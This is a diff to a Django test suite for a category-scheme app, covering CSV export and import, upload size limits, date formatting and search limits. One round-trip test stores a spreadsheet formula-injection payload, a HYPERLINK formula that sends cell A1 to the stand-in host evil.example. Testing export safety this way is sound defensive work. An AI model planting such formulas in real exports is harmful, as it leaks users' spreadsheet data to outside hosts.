@@ -9,6 +9,8 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
+from django.utils.formats import date_format
 from pytest_django.asserts import assertContains, assertNotContains, assertRedirects
 
 from maillage.core.models import AuditEntry, Organisation, Role, User
@@ -118,7 +120,7 @@ def test_scheme_list_shows_versions_and_status(staff_client: Client, v2_draft: S
         '<td><a href="/categories/themes/v2/export.csv">Download version 2 as CSV</a></td></tr>',
         html=True,
     )
-    published_on = v2_draft.previous.published_at.strftime("%m/%d/%Y")
+    published_on = date_format(timezone.localtime(v2_draft.previous.published_at), "SHORT_DATE_FORMAT")
     assertContains(
         response,
         '<tr><td><a href="/categories/themes/v1/">Version 1</a> <span class="meta">2025</span></td>'
@@ -319,13 +321,13 @@ def test_upload_wrong_encoding(staff_client: Client, v2_draft: SchemeVersion) ->
     assert v2_draft.categories.count() == 4
 
 
-def test_upload_without_file_or_too_big(staff_client: Client, v2_draft: SchemeVersion) -> None:
+def test_upload_without_file_or_too_big(staff_client: Client, v2_draft: SchemeVersion, settings) -> None:  # type: ignore[no-untyped-def]
     response = staff_client.post("/categories/themes/v2/upload/")
     assert response.context["form"].errors == {"file": ["This field is required."]}
-    response = upload(staff_client, "/categories/themes/v2/upload/", b"x" * (2 * 1024 * 1024 + 1))
-    assert response.context["form"].errors == {
-        "file": ["The file is larger than 2 MB; a category list is much smaller."]
-    }
+    settings.MAILLAGE_UPLOAD_LIMITS = {**settings.MAILLAGE_UPLOAD_LIMITS, "taxonomy": 1024 * 1024}
+    response = upload(staff_client, "/categories/themes/v2/upload/", V1_CSV.encode() + b"x" * 1024 * 1024)
+    assert response.context["form"].errors == {"file": ["The file is too large: the limit is 1 MB."]}
+    assert v2_draft.categories.count() == 4
 
 
 def test_upload_good_file_replaces_the_draft(staff_client: Client, staff: User, v2_draft: SchemeVersion) -> None:
@@ -352,21 +354,38 @@ def test_upload_into_published_version_refused(staff_client: Client, v1: SchemeV
 # --- download ---
 
 
+def _body(response) -> bytes:  # type: ignore[no-untyped-def]
+    return b"".join(response.streaming_content)
+
+
 def test_download_csv(staff_client: Client, v1: SchemeVersion) -> None:
-    response = staff_client.get("/categories/themes/v1/export.csv")
+    response = staff_client.get("/categories/themes/v1/export.csv", {"sep": "comma"})
     assert (response["Content-Type"], response["Content-Disposition"]) == (
         "text/csv; charset=utf-8",
-        'attachment; filename="themes-v1.csv"',
+        "attachment; filename=\"themes-v1.csv\"; filename*=UTF-8''themes-v1.csv",
     )
-    assert response.content == V1_CSV.encode("utf-8-sig")
+    assert "no-store" in [part.strip() for part in response["Cache-Control"].split(",")]
+    assert _body(response) == V1_CSV.replace("\n", "\r\n").encode()
+
+
+def test_download_for_a_belgian_spreadsheet_by_default(staff_client: Client, v1: SchemeVersion) -> None:
+    text = _body(staff_client.get("/categories/themes/v1/export.csv")).decode("utf-8")
+    assert text.splitlines()[:2] == [
+        "\ufeffcode;parent_code;label_fr;label_nl;label_en;description;active",
+        "FOOD;;Aide alimentaire;Voedselhulp;Food aid;;yes",
+    ]
 
 
 def test_download_then_upload_gives_the_same_tree(staff_client: Client, v1: SchemeVersion) -> None:
-    exported = staff_client.get("/categories/themes/v1/export.csv").content
+    v1.categories.filter(code="FOOD").update(label_en='=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")')
+    exported = _body(staff_client.get("/categories/themes/v1/export.csv"))
     staff_client.post("/categories/themes/new-draft/")
     services.import_categories_csv(None, SchemeVersion.objects.get(number=2), V2_CSV)
     upload(staff_client, "/categories/themes/v2/upload/", exported)
-    assert staff_client.get("/categories/themes/v2/export.csv").content == exported
+    assert _body(staff_client.get("/categories/themes/v2/export.csv")) == exported
+    assert SchemeVersion.objects.get(number=2).categories.get(code="FOOD").label_en == (
+        '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'
+    )
 
 
 # --- edit a category ---
@@ -560,8 +579,10 @@ def test_search_json_for_any_signed_in_person(worker: User, v1: SchemeVersion) -
 def test_search_limit_and_level_one(staff_client: Client, v1: SchemeVersion) -> None:
     data = json.loads(staff_client.get("/categories/themes/search", {"q": "", "limit": "1"}).content)
     assert [(r["code"], r["parent_code"], r["parent_label"]) for r in data["results"]] == [("FOOD", "", "")]
-    data = json.loads(staff_client.get("/categories/themes/search", {"q": "food", "limit": "many"}).content)
+    data = json.loads(staff_client.get("/categories/themes/search", {"q": "food", "limit": "999999"}).content)
     assert [r["code"] for r in data["results"]] == ["FOOD", "FOOD.PARCEL", "FOOD.SHOP"]
+    data = json.loads(staff_client.get("/categories/themes/search", {"q": "food", "limit": "-4"}).content)
+    assert [r["code"] for r in data["results"]] == ["FOOD"]
 
 
 def test_search_without_published_version(staff_client: Client, scheme: Scheme) -> None:
